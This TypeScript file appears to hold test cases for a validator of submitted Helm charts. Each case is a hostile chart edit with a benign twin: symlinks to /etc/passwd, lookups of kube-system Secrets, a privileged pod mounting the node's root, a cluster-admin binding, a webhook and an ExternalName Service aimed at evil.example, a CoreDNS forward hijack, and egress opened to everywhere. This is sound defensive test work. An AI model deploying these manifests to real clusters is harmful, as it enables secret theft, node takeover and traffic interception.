import type { FileCase } from './case.ts';
import { chart, eks, template } from './material.ts';

const deployment = `${chart}/templates/deployment.yaml`;
const values = `${chart}/values.yaml`;
const schema = `${chart}/values.schema.json`;

const at = (name: string): string => `${chart}/templates/${name}.yaml`;
const also = (name: string, apiVersion: string, kind: string, rest: string) => ({ [at(name)]: { text: template(name, apiVersion, kind, rest) } }) as const;
const settings = (name: string, key: string, value: string) => also(name, 'v1', 'ConfigMap', `data:\n  ${key}: ${value}\n`);
const pod = (...edits: readonly (readonly [string, string])[]) => ({ [deployment]: { edits } }) as const;
const container = '          imagePullPolicy: IfNotPresent';
const dependency = (repository: string, name = 'common') => ({ [`${chart}/Chart.yaml`]: { edits: [['appVersion: "0.1.0"', `appVersion: "0.1.0"\ndependencies:\n  - name: ${name}\n    version: 1.0.0\n    repository: ${repository}`]] } }) as const;
const library = {
  'chart/library/Chart.yaml': { text: 'apiVersion: v2\nname: library\ntype: library\nversion: 1.0.0\n' },
  'chart/library/templates/_names.tpl': { text: '{{- define "library.name" -}}library{{- end -}}\n' },
} as const;
/** Values of a subchart are its parent’s to admit. */
const admitted = { [schema]: { edits: [['"global": { "type": "object" }', '"global": { "type": "object" },\n    "library": { "type": "object" }']] } } as const;
const rule = '- apiGroups: [""]\n    resources: [configmaps]\n    verbs: [get]';

export const H: readonly FileCase[] = [
  {
    id: 'H01',
    tried: 'links out of the submission, in the chart and beside it',
    must: 'refused',
    changes: { [`${chart}/files/passwd`]: { link: '/etc/passwd' }, [`${chart}/templates/host.yaml`]: { link: '../../../../../../etc/hostname' }, 'everything': { link: '/' }, ...settings('h01', 'passwd', '{{ .Files.Get "files/passwd" | quote }}') },
    loses: [],
    refused: [['symlink', 'chart/docc-sample/files/passwd'], ['symlink', 'chart/docc-sample/templates/host.yaml'], ['symlink', 'everything']],
    twin: { is: 'a file of the chart that a template reads', changes: { [`${chart}/files/notice`]: { text: 'of docc\n' }, ...settings('h01', 'notice', '{{ .Files.Get "files/notice" | quote }}') } },
  },
  {
    id: 'H02',
    tried: 'a schema that refers to a device and to an address',
    must: 'neutralised',
    changes: { [schema]: { edits: [['"global": { "type": "object" }', '"global": { "$ref": "file:///dev/zero" },\n    "zone": { "$ref": "http://127.0.0.1:9/schema.json" }']] } },
    loses: [],
    twin: { is: 'a schema that refers to itself', changes: { [schema]: { edits: [['"global": { "type": "object" }', '"global": { "$ref": "#/definitions/anything" }'], ['"definitions": {', '"definitions": {\n    "anything": { "type": "object" },']] } } },
  },
  {
    id: 'H03',
    tried: 'a dependency that leads out of the submission',
    must: 'refused',
    changes: dependency('file://../../../../../../etc'),
    loses: [
      { check: 'chart-renders', at: 'chart/docc-sample/Chart.yaml:8', observed: '`chart/docc-sample` does not render with its own values: the dependency common is to come from file://../../../../../../etc, where the submission has no chart' },
    ],
    twin: { is: 'a dependency in the submission', changes: { ...dependency('file://../library', 'library'), ...library, ...admitted } },
  },
  {
    id: 'H03',
    tried: 'a dependency of a registry',
    must: 'neutralised',
    changes: dependency('https://charts.evil.example'),
    loses: [],
    twin: { is: 'one that lies in the chart', changes: { ...admitted, [`${chart}/Chart.yaml`]: { rewritten: (text) => `${text}dependencies:\n  - name: library\n    version: 1.0.0\n` }, [`${chart}/charts/library/Chart.yaml`]: { text: library['chart/library/Chart.yaml'].text }, [`${chart}/charts/library/templates/_names.tpl`]: { text: library['chart/library/templates/_names.tpl'].text } } },
  },
  {
    id: 'H04',
    tried: 'templates that ask name servers and a cluster',
    must: 'neutralised',
    changes: settings('h04', 'seen', '{{ getHostByName "evil.example" | quote }}\n  secrets: {{ lookup "v1" "Secret" "kube-system" "" | toJson | quote }}'),
    loses: [],
    twin: { is: 'lookup with a default', changes: settings('h04', 'seen', '{{ (lookup "v1" "ConfigMap" .Release.Namespace "kept").data | default dict | toJson | quote }}') },
  },
  {
    id: 'H05',
    tried: 'a template that writes a gigabyte',
    must: 'capped',
    changes: settings('h05', 'long', '"{{ range until 40000 }}{{ range until 4000 }}0123456789{{ end }}{{ end }}"'),
    loses: [
      { check: 'route-declared', at: 'chart/docc-sample/templates/h05.yaml:8', observed: 'Helm can’t render `chart/docc-sample`: helm took more than ' },
      { check: 'workload-declared', at: 'chart/docc-sample/templates/h05.yaml:8', observed: 'Helm can’t render `chart/docc-sample`: helm took more than ' },
    ],
    twin: { is: 'a template with a long loop', changes: settings('h05', 'long', '"{{ range until 200 }}{{ . }} {{ end }}"') },
  },
  {
    id: 'H06',
    tried: 'a privileged pod with the node’s file system',
    must: 'denied',
    changes: pod(['            privileged: false', '            privileged: true'], ['      containers:\n', '      hostPID: true\n      volumes:\n        - name: node\n          hostPath:\n            path: /\n      containers:\n']),
    loses: [
      { check: 'manifests-valid', at: 'chart/docc-sample/templates/deployment.yaml:96', observed: '`Deployment docc-sample`: `/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation`: can not be false where privileged is true' },
      { check: 'pod-no-host-access', at: 'chart/docc-sample/templates/deployment.yaml:63', observed: '`Deployment docc-sample` shares the processes of its node and `Deployment docc-sample` mounts `/` of its node' },
      { check: 'pod-no-privilege-escalation', at: 'chart/docc-sample/templates/deployment.yaml:97', observed: '`server` of `Deployment docc-sample` is privileged' },
    ],
    kept: { refused: [['host-access', 'chart/docc-sample/templates/deployment.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'a volume of the pod’s own', changes: pod(['      containers:\n', '      volumes:\n        - name: scratch\n          emptyDir:\n            sizeLimit: 16Mi\n      containers:\n'], [container, `${container}\n          volumeMounts:\n            - name: scratch\n              mountPath: /tmp`]) },
  },
  {
    id: 'H07',
    tried: 'a webhook, a CRD and a ClusterRole',
    must: 'neutralised',
    changes: {
      ...also('h07', 'rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', 'roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: {{ include "docc-sample.fullname" . }}\n    namespace: {{ .Release.Namespace }}\n'),
      [`${chart}/templates/webhook.yaml`]: { text: 'apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: evil\nwebhooks:\n  - name: evil.example.org\n    admissionReviewVersions: [v1]\n    sideEffects: None\n    failurePolicy: Fail\n    clientConfig:\n      url: https://evil.example/\n    rules:\n      - apiGroups: ["*"]\n        apiVersions: ["*"]\n        operations: ["*"]\n        resources: ["*"]\n' },
      [`${chart}/crds/evil.yaml`]: { text: 'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: evils.evil.example\nspec:\n  group: evil.example\n  scope: Cluster\n  names:\n    kind: Evil\n    plural: evils\n  versions:\n    - name: v1\n      served: true\n      storage: true\n      schema:\n        openAPIV3Schema:\n          type: object\n' },
    },
    loses: [
      { check: 'rbac-least-privilege', at: 'chart/docc-sample/templates/h07.yaml:1', observed: '`ClusterRoleBinding docc-sample-h07` gives `docc-sample` rights in the whole cluster' },
    ],
    kept: { refused: [], setAside: ['CustomResourceDefinition', 'ClusterRoleBinding', 'ValidatingWebhookConfiguration', 'Namespace'] },
    twin: { is: 'a Role in the app’s namespace', changes: also('h07', 'rbac.authorization.k8s.io/v1', 'Role', `rules:\n  ${rule}\n`) },
  },
  {
    id: 'H08',
    tried: 'an object in kube-system',
    must: 'refused',
    changes: { [at('h08')]: { text: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns\n  namespace: kube-system\ndata:\n  Corefile: ". { forward . 203.0.113.1 }"\n' } },
    loses: [],
    kept: { refused: [['foreign-namespace', 'chart/docc-sample/templates/h08.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'an object that names its namespace', changes: { [at('h08')]: { text: template('h08', 'v1', 'ConfigMap', 'data:\n  a: b\n').replace('metadata:', 'metadata:\n  namespace: {{ .Release.Namespace }}') } } },
  },
  {
    id: 'H08',
    tried: 'a namespace that enforces nothing',
    must: 'refused',
    changes: { [`${eks}/app.tf`]: { edits: [['restricted', 'privileged']] } },
    loses: [
      { check: 'namespace-enforces-restricted', at: 'assets/eks/app.tf:8', observed: 'the namespace `docc-sample` enforces `privileged`' },
    ],
    twin: { is: 'a namespace with a label more', changes: { [`${eks}/app.tf`]: { edits: [['      "app.kubernetes.io/part-of"          = "docc"\n', '      "app.kubernetes.io/part-of"          = "docc"\n      "example.org/team"                   = "platform"\n']] } } },
  },
  {
    id: 'H09',
    tried: 'another image, and a sidecar that answers',
    must: 'denied',
    changes: pod(['      containers:\n', '      containers:\n        - name: answer\n          image: "evil.example/answer:1@sha256:6373099a14d1329ff207e50af2c9ae756fa7f9df3b0c919b36f683ae6a515e60"\n          ports:\n            - name: answering\n              containerPort: 8081\n']),
    loses: [
      { check: 'resources-set', at: 'chart/docc-sample/templates/deployment.yaml:64', observed: '`answer` of `Deployment docc-sample` lacks a request for CPU, a request for memory and a memory limit' },
      { check: 'pod-drops-capabilities', at: 'chart/docc-sample/templates/deployment.yaml:64', observed: '`answer` of `Deployment docc-sample` drops no capability' },
      { check: 'pod-no-privilege-escalation', at: 'chart/docc-sample/templates/deployment.yaml:64', observed: '`answer` of `Deployment docc-sample` may gain privileges: it does not say `allowPrivilegeEscalation: false`' },
      { check: 'pod-read-only-root', at: 'chart/docc-sample/templates/deployment.yaml:64', observed: '`answer` of `Deployment docc-sample` can write to its root' },
    ],
    kept: { refused: [['image', 'chart/docc-sample/templates/deployment.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'the same image by another place of values', changes: { [values]: { edits: [['repository: domain/docc-sample', 'repository: "domain/docc-sample"']] } } },
  },
  {
    id: 'H10',
    tried: 'hooks, keep, and finalizers',
    must: 'refused',
    changes: {
      [at('h10')]: { text: template('h10', 'v1', 'ConfigMap', 'data:\n  a: b\n').replace('metadata:', 'metadata:\n  annotations:\n    helm.sh/hook: pre-install') },
      [`${chart}/templates/kept.yaml`]: { text: template('kept', 'v1', 'ConfigMap', 'data:\n  a: b\n').replace('metadata:', 'metadata:\n  annotations:\n    helm.sh/resource-policy: keep') },
      [`${chart}/templates/held.yaml`]: { text: template('held', 'v1', 'ConfigMap', 'data:\n  a: b\n').replace('metadata:', 'metadata:\n  finalizers: [evil.example/held]') },
    },
    loses: [],
    kept: { refused: [['hook', 'chart/docc-sample/templates/h10.yaml:1'], ['finalizer', 'chart/docc-sample/templates/held.yaml:1'], ['hook', 'chart/docc-sample/templates/kept.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'a test hook', changes: { [`${chart}/templates/tests/answers.yaml`]: { text: template('answers', 'v1', 'Pod', 'spec:\n  restartPolicy: Never\n  containers:\n    - name: ask\n      image: busybox:1.37\n').replace('metadata:', 'metadata:\n  annotations:\n    helm.sh/hook: test') } } },
  },
  {
    id: 'H11',
    tried: 'a Service that leads elsewhere',
    must: 'denied',
    changes: also('h11', 'v1', 'Service', 'spec:\n  type: ExternalName\n  externalName: evil.example\n'),
    loses: [],
    kept: { refused: [['exposure', 'chart/docc-sample/templates/h11.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'a second Service of the app’s pods', changes: also('h11', 'v1', 'Service', 'spec:\n  selector:\n    {{- include "docc-sample.selectorLabels" . | nindent 4 }}\n  ports:\n    - name: http\n      port: 8080\n      targetPort: http\n') },
  },
  {
    id: 'H12',
    tried: 'ten thousand pods',
    must: 'denied',
    changes: { [values]: { edits: [['replicas: 2', 'replicas: 10000']] } },
    loses: [],
    kept: { refused: [['size', 'chart/docc-sample/templates/deployment.yaml:1']], setAside: ['Namespace'] },
    twin: { is: 'four pods', changes: { [values]: { edits: [['replicas: 2', 'replicas: 4']] } } },
  },
  {
    id: 'H13',
    tried: 'the API by a token that the pod is given, and rights over secrets',
    must: 'refused',
    changes: {
      [`${chart}/templates/serviceaccount.yaml`]: { edits: [['automountServiceAccountToken: false', 'automountServiceAccountToken: true']] },
      ...also('h13', 'rbac.authorization.k8s.io/v1', 'RoleBinding', 'roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: admin\nsubjects:\n  - kind: ServiceAccount\n    name: {{ include "docc-sample.fullname" . }}\n    namespace: {{ .Release.Namespace }}\n'),
    },
    loses: [
      { check: 'rbac-least-privilege', at: 'chart/docc-sample/templates/h13.yaml:10', observed: '`RoleBinding docc-sample-h13` gives `docc-sample` the role `admin`' },
    ],
    twin: { is: 'an account with an annotation', changes: { [`${chart}/templates/serviceaccount.yaml`]: { edits: [['  labels:', '  annotations:\n    example.org/team: platform\n  labels:']] } } },
  },
  {
    id: 'H14',
    tried: 'a policy that lets pods out to everywhere, metadata too',
    must: 'denied',
    changes: { [`${chart}/templates/networkpolicy.yaml`]: { edits: [['  ingress:\n', '  egress:\n    - to:\n        - ipBlock:\n            cidr: 0.0.0.0/0\n  ingress:\n']] } },
    loses: [
      { check: 'network-policy', at: 'chart/docc-sample/templates/networkpolicy.yaml:14', observed: '`NetworkPolicy docc-sample` lets the pods out to 0.0.0.0/0 on all ports' },
    ],
    twin: { is: 'egress to name servers alone', changes: { [`${chart}/templates/networkpolicy.yaml`]: { edits: [['  ingress:\n', '  egress:\n    - to:\n        - namespaceSelector:\n            matchLabels:\n              kubernetes.io/metadata.name: kube-system\n          podSelector:\n            matchLabels:\n              k8s-app: kube-dns\n      ports:\n        - protocol: UDP\n          port: 53\n  ingress:\n']] } } },
  },
];
